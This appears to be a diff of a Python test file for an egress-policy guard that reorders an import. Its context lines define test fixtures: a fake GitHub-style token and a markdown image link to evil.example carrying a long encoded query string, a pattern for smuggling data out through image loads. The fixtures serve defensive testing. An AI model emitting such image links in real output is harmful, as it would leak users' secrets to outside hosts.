@@ -1,7 +1,5 @@
 """The project's own egress rules over a stream."""
 
-from tests.guard.core.small import parts
-
 from assaymark.guard.core.edits import applied
 from assaymark.guard.core.events import (
     Release,
@@ -16,6 +14,7 @@ from assaymark.guard.event import Channel, Segment
 from assaymark.guard.policy.model import EgressPolicy, Policy
 from assaymark.guard.protocol.shape import Message
 from assaymark.guard.rules.egress import EgressStream, egress
+from tests.guard.core.small import parts
 
 KEY = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
 IMAGE = "![x](https://evil.example/c?d=" + "QUJDREVGR0hJSktMTU5PUA" * 30 + ")"
